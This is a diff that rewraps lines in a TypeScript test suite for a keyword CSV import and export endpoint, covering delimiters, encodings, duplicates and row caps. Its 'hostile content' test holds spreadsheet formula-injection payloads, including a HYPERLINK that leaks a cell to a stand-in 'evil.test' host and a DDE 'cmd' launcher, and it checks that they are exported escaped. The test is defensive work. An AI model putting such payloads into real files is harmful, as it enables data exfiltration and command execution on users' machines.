@@ -18,7 +18,9 @@ let n = 0;
 beforeAll(async () => {
   owner = await signup('csv');
   // The Scale plan has no keyword limit, so what these tests meet are the import's own caps.
-  await env.DB_CONTROL.prepare("UPDATE accounts SET plan_id = (SELECT id FROM plans WHERE slug = 'scale') WHERE id = ?").bind(owner.accountId).run();
+  await env.DB_CONTROL.prepare("UPDATE accounts SET plan_id = (SELECT id FROM plans WHERE slug = 'scale') WHERE id = ?")
+    .bind(owner.accountId)
+    .run();
   siteId = (await createSite(owner, 'CSV site')).id;
 });
 
@@ -32,7 +34,8 @@ afterEach(async () => {
 
 const imported = async () => keywordsOf(owner, place.sectorId);
 const byKeyword = async () => new Map((await imported()).map((k) => [k.keyword, k]));
-const bytes = (...parts: (string | number[])[]) => new Uint8Array(parts.flatMap((p) => (typeof p === 'string' ? [...new TextEncoder().encode(p)] : p)));
+const bytes = (...parts: (string | number[])[]) =>
+  new Uint8Array(parts.flatMap((p) => (typeof p === 'string' ? [...new TextEncoder().encode(p)] : p)));
 
 /** A CSV of `rows` lines "kw<i>,<i>" after a header, as bytes. */
 function bigCsv(rows: number, pad = 0) {
@@ -53,16 +56,33 @@ describe('what real tools export', () => {
     ].join('\r\n');
     const res = await importCsv(owner, place, csv);
     expect(res.status, JSON.stringify(res.body)).toBe(200);
-    expect(res.body.data).toMatchObject({ rows: 4, imported: 4, created: 4, merged_existing: 0, skipped: 0, errors: [], encoding: 'utf-8' });
+    expect(res.body.data).toMatchObject({
+      rows: 4,
+      imported: 4,
+      created: 4,
+      merged_existing: 0,
+      skipped: 0,
+      errors: [],
+      encoding: 'utf-8',
+    });
     const k = await byKeyword();
-    expect(k.get('raised bed soil')).toMatchObject({ volume: 1200, difficulty: 35, intent: 'commercial', status: 'pending' });
+    expect(k.get('raised bed soil')).toMatchObject({
+      volume: 1200,
+      difficulty: 35,
+      intent: 'commercial',
+      status: 'pending',
+    });
     expect(k.get('raised bed kit')).toMatchObject({ volume: 1200, difficulty: 12, intent: 'informational' });
     expect(k.get('cedar raised bed')).toMatchObject({ volume: 880, difficulty: 7, intent: 'transactional' });
     expect(k.get('garden')).toMatchObject({ volume: 3_000_000, difficulty: 0, intent: 'informational' });
   });
 
   it('detects semicolon-delimited files (European spreadsheets)', async () => {
-    const res = await importCsv(owner, place, 'Keyword;Search Volume;Keyword Difficulty\nkomposter kaufen;1 200;40\nhochbeet, holz;90;12\n');
+    const res = await importCsv(
+      owner,
+      place,
+      'Keyword;Search Volume;Keyword Difficulty\nkomposter kaufen;1 200;40\nhochbeet, holz;90;12\n',
+    );
     expect(res.status, JSON.stringify(res.body)).toBe(200);
     expect(res.body.data).toMatchObject({ imported: 2, skipped: 0 });
     const k = await byKeyword();
@@ -71,7 +91,12 @@ describe('what real tools export', () => {
   });
 
   it('detects tab-separated files', async () => {
-    const res = await importCsv(owner, place, 'Keyword\tVolume\tIntent\nworm farm, diy\t320\tcommercial\n"tab\tinside"\t5\tn\n', { type: 'text/plain' });
+    const res = await importCsv(
+      owner,
+      place,
+      'Keyword\tVolume\tIntent\nworm farm, diy\t320\tcommercial\n"tab\tinside"\t5\tn\n',
+      { type: 'text/plain' },
+    );
     expect(res.status, JSON.stringify(res.body)).toBe(200);
     const k = await byKeyword();
     expect(k.get('worm farm, diy')).toMatchObject({ volume: 320, intent: 'commercial' });
@@ -80,12 +105,16 @@ describe('what real tools export', () => {
 
   it('takes an explicit ?mapping= for headers it does not know, and names a mapped column that is missing', async () => {
     const csv = 'Suchbegriff;Suchvolumen;Schwierigkeit\nrasen düngen;2.4k;33\n';
-    const mapping = encodeURIComponent(JSON.stringify({ keyword: 'Suchbegriff', volume: 'suchvolumen', difficulty: 'Schwierigkeit' }));
+    const mapping = encodeURIComponent(
+      JSON.stringify({ keyword: 'Suchbegriff', volume: 'suchvolumen', difficulty: 'Schwierigkeit' }),
+    );
     const res = await importCsv(owner, place, csv, { query: `&mapping=${mapping}` });
     expect(res.status, JSON.stringify(res.body)).toBe(200);
     expect((await byKeyword()).get('rasen düngen')).toMatchObject({ volume: 2400, difficulty: 33 });
 
-    const wrong = await importCsv(owner, place, csv, { query: `&mapping=${encodeURIComponent(JSON.stringify({ keyword: 'Begriff' }))}` });
+    const wrong = await importCsv(owner, place, csv, {
+      query: `&mapping=${encodeURIComponent(JSON.stringify({ keyword: 'Begriff' }))}`,
+    });
     expectError(wrong, 400, 'validation_error');
     expect(wrong.body.errors.file.join(' ')).toMatch(/No column named "Begriff" for keyword/);
     const notJson = await importCsv(owner, place, csv, { query: '&mapping=keyword=Suchbegriff' });
@@ -130,23 +159,41 @@ describe('bad rows and duplicates', () => {
     expect(errors[0]!.error).toMatch(/keyword is empty/i);
     expect(errors[1]!.error).toMatch(/Volume "lots" is not a number/);
     expect(errors[2]!.error).toMatch(/Difficulty "150" is not a number from 0 to 100/);
-    expect(errors[3]!.error).toMatch(/Intent "curious" is not one of informational, navigational, commercial, transactional/);
+    expect(errors[3]!.error).toMatch(
+      /Intent "curious" is not one of informational, navigational, commercial, transactional/,
+    );
     expect(errors[4]!.error).toMatch(/Volume "x"/);
     expect((await imported()).map((k) => k.keyword).sort()).toEqual(['good one', 'good two', 'multi line keyword']);
   });
 
   it('merges duplicates within the file and updates keywords already in the sector', async () => {
-    const existing = await call('POST', `${KEYWORDS}/`, { token: owner.token, body: { site_id: siteId, sector_id: place.sectorId, keyword: 'compost bin', volume: 10 } });
+    const existing = await call('POST', `${KEYWORDS}/`, {
+      token: owner.token,
+      body: { site_id: siteId, sector_id: place.sectorId, keyword: 'compost bin', volume: 10 },
+    });
     expect(existing.status).toBe(201);
-    const csv = 'keyword,volume,difficulty\nCompost Bin,500,20\ncompost   bin,700,25\nworm farm,50,1\nWORM FARM,60,2\nnew one,1,1\n';
+    const csv =
+      'keyword,volume,difficulty\nCompost Bin,500,20\ncompost   bin,700,25\nworm farm,50,1\nWORM FARM,60,2\nnew one,1,1\n';
     const res = await importCsv(owner, place, csv);
     expect(res.status, JSON.stringify(res.body)).toBe(200);
-    expect(res.body.data).toMatchObject({ rows: 5, imported: 3, created: 2, merged_existing: 1, merged_duplicates_in_file: 2, skipped: 0 });
+    expect(res.body.data).toMatchObject({
+      rows: 5,
+      imported: 3,
+      created: 2,
+      merged_existing: 1,
+      merged_duplicates_in_file: 2,
+      skipped: 0,
+    });
     const rows = await imported();
     expect(rows).toHaveLength(3);
     const k = new Map(rows.map((r) => [r.normalized, r]));
     // The existing row keeps its id and spelling and takes the file's (last) metrics.
-    expect(k.get('compost bin')).toMatchObject({ id: existing.body.data.id, keyword: 'compost bin', volume: 700, difficulty: 25 });
+    expect(k.get('compost bin')).toMatchObject({
+      id: existing.body.data.id,
+      keyword: 'compost bin',
+      volume: 700,
+      difficulty: 25,
+    });
     // The first spelling in the file is kept, with the metrics of the last occurrence.
     expect(k.get('worm farm')).toMatchObject({ keyword: 'worm farm', volume: 60, difficulty: 2 });
 
@@ -158,10 +205,18 @@ describe('bad rows and duplicates', () => {
 
 describe('encodings', () => {
   it('decodes Windows-1252 bytes (café = 63 61 66 E9) and reports the encoding', async () => {
-    const res = await importCsv(owner, place, bytes('keyword,volume\ncaf', [0xe9], ' au lait,100\nna', [0xef], 've gardening,20\n', [0x80], ' price list,5\n'));
+    const res = await importCsv(
+      owner,
+      place,
+      bytes('keyword,volume\ncaf', [0xe9], ' au lait,100\nna', [0xef], 've gardening,20\n', [0x80], ' price list,5\n'),
+    );
     expect(res.status, JSON.stringify(res.body)).toBe(200);
     expect(res.body.data).toMatchObject({ imported: 3, encoding: 'windows-1252' });
-    expect((await imported()).map((k) => k.keyword).sort()).toEqual(['café au lait', 'naïve gardening', '€ price list']);
+    expect((await imported()).map((k) => k.keyword).sort()).toEqual([
+      'café au lait',
+      'naïve gardening',
+      '€ price list',
+    ]);
   });
 
   it('decodes UTF-16LE with a BOM', async () => {
@@ -193,14 +248,24 @@ describe('hostile content', () => {
     const res = await importCsv(owner, place, `keyword,volume\nbefore,1\n${'a'.repeat(MB)},2\nafter,3\n`);
     expect(res.status, JSON.stringify(res.body).slice(0, 500)).toBe(200);
     expect(res.body.data).toMatchObject({ rows: 3, imported: 2, skipped: 1 });
-    expect(res.body.data.errors).toEqual([{ line: 3, error: expect.stringMatching(/characters long \(at most 300\)/) }]);
+    expect(res.body.data.errors).toEqual([
+      { line: 3, error: expect.stringMatching(/characters long \(at most 300\)/) },
+    ]);
     expect(res.text.length).toBeLessThan(5000);
     expect((await imported()).map((k) => k.keyword).sort()).toEqual(['after', 'before']);
   });
 
   it('stores formula cells as text and exports them escaped with a leading quote', async () => {
-    const formulas = ['=HYPERLINK("http://evil.test/?leak="&A1,"click me")', '+cmd|\' /C calc\'!A0', '-2+3 garden', '@SUM(1+1)'];
-    const csv = 'keyword,volume\n' + formulas.map((f, i) => `"${f.replace(/"/g, '""')}",${i + 1}`).join('\n') + '\nplain keyword,9\n';
+    const formulas = [
+      '=HYPERLINK("http://evil.test/?leak="&A1,"click me")',
+      "+cmd|' /C calc'!A0",
+      '-2+3 garden',
+      '@SUM(1+1)',
+    ];
+    const csv =
+      'keyword,volume\n' +
+      formulas.map((f, i) => `"${f.replace(/"/g, '""')}",${i + 1}`).join('\n') +
+      '\nplain keyword,9\n';
     const res = await importCsv(owner, place, csv);
     expect(res.status, JSON.stringify(res.body)).toBe(200);
     expect(res.body.data.imported).toBe(5);
@@ -216,7 +281,9 @@ describe('hostile content', () => {
     for (const f of formulas) {
       const quoted = `'${f}`;
       const cell = /[",]/.test(quoted) ? `"${quoted.replace(/"/g, '""')}"` : quoted;
-      expect(lines, f).toContainEqual(expect.stringMatching(new RegExp(`^${cell.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')},`)));
+      expect(lines, f).toContainEqual(
+        expect.stringMatching(new RegExp(`^${cell.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')},`)),
+      );
     }
     expect(lines).toContain('plain keyword,9,0,informational,pending,');
     // No line of the export starts a cell with a formula character.
@@ -259,7 +326,9 @@ describe('caps and refusals', () => {
     const res = await importCsv(owner, place, bigCsv(50_000));
     expect(res.status, JSON.stringify(res.body).slice(0, 300)).toBe(200);
     expect(res.body.data).toMatchObject({ rows: 50_000, imported: 50_000, created: 50_000, skipped: 0 });
-    expect((await call('GET', `${KEYWORDS}/?sector_id=${place.sectorId}&page_size=1`, { token: owner.token })).body.count).toBe(50_000);
+    expect(
+      (await call('GET', `${KEYWORDS}/?sector_id=${place.sectorId}&page_size=1`, { token: owner.token })).body.count,
+    ).toBe(50_000);
   });
 
   it('refuses more than 50,000 rows with a 400 naming the cap, importing nothing', async () => {
@@ -302,7 +371,9 @@ describe('a 10,000-row import, then the list', () => {
   }));
 
   it('imports every row and pages through filtered, ordered results with correct counts and links', async () => {
-    const csv = 'keyword,volume,difficulty,intent\n' + model.map((m) => `${m.keyword},${m.volume},${m.difficulty},${m.intent}`).join('\n');
+    const csv =
+      'keyword,volume,difficulty,intent\n' +
+      model.map((m) => `${m.keyword},${m.volume},${m.difficulty},${m.intent}`).join('\n');
     const res = await importCsv(owner, place, csv);
     expect(res.status, JSON.stringify(res.body).slice(0, 500)).toBe(200);
     expect(res.body.data).toMatchObject({ rows: 10_000, imported: 10_000, created: 10_000, skipped: 0 });
@@ -316,10 +387,27 @@ describe('a 10,000-row import, then the list', () => {
     // Take some keywords out of the "unclustered, pending" set the filters below ask for.
     const ids = new Map((await keywordsOf(owner, place.sectorId)).map((k) => [k.keyword, k.id]));
     const archived = model.filter((_, i) => i % 7 === 0).map((m) => ids.get(m.keyword)!);
-    expect((await call('POST', `${KEYWORDS}/bulk_update_status/`, { token: owner.token, body: { ids: archived, status: 'archived' } })).status).toBe(200);
-    const cluster = await call('POST', '/api/v1/planner/clusters/', { token: owner.token, body: { site_id: siteId, sector_id: place.sectorId, name: 'hand made' } });
+    expect(
+      (
+        await call('POST', `${KEYWORDS}/bulk_update_status/`, {
+          token: owner.token,
+          body: { ids: archived, status: 'archived' },
+        })
+      ).status,
+    ).toBe(200);
+    const cluster = await call('POST', '/api/v1/planner/clusters/', {
+      token: owner.token,
+      body: { site_id: siteId, sector_id: place.sectorId, name: 'hand made' },
+    });
     const clustered = model.filter((_, i) => i % 11 === 0).map((m) => ids.get(m.keyword)!);
-    expect((await call('POST', `/api/v1/planner/clusters/${cluster.body.data.id}/add_keywords/`, { token: owner.token, body: { keyword_ids: clustered } })).status).toBe(200);
+    expect(
+      (
+        await call('POST', `/api/v1/planner/clusters/${cluster.body.data.id}/add_keywords/`, {
+          token: owner.token,
+          body: { keyword_ids: clustered },
+        })
+      ).status,
+    ).toBe(200);
 
     const expected = model
       .map((m, i) => ({ ...m, i }))
@@ -327,7 +415,8 @@ describe('a 10,000-row import, then the list', () => {
       .filter((m) => m.intent === 'commercial' && m.keyword.endsWith('beta') && m.i % 7 !== 0 && m.i % 11 !== 0)
       .sort((a, b) => b.volume - a.volume);
     expect(expected.length).toBeGreaterThan(100);
-    const filters = 'volume_min=20000&volume_max=60000&difficulty_min=10&difficulty_max=50&intent=commercial&status=pending&search=BETA&cluster_id=none&ordering=-volume';
+    const filters =
+      'volume_min=20000&volume_max=60000&difficulty_min=10&difficulty_max=50&intent=commercial&status=pending&search=BETA&cluster_id=none&ordering=-volume';
     const pages = Math.ceil(expected.length / 50);
     const seen: string[] = [];
     for (let p = 1; p <= pages; p++) {
@@ -344,7 +433,9 @@ describe('a 10,000-row import, then the list', () => {
     }
     expect(seen).toEqual(expected.map((m) => m.keyword));
 
-    const clusteredOnly = await call('GET', `${base}&page_size=1&cluster_id=${cluster.body.data.id}`, { token: owner.token });
+    const clusteredOnly = await call('GET', `${base}&page_size=1&cluster_id=${cluster.body.data.id}`, {
+      token: owner.token,
+    });
     expect(clusteredOnly.body.count).toBe(clustered.length);
     const beyond = await call('GET', `${base}&page_size=50&${filters}&page=${pages + 1}`, { token: owner.token });
     expect(beyond.body).toMatchObject({ count: expected.length, results: [], next: null });
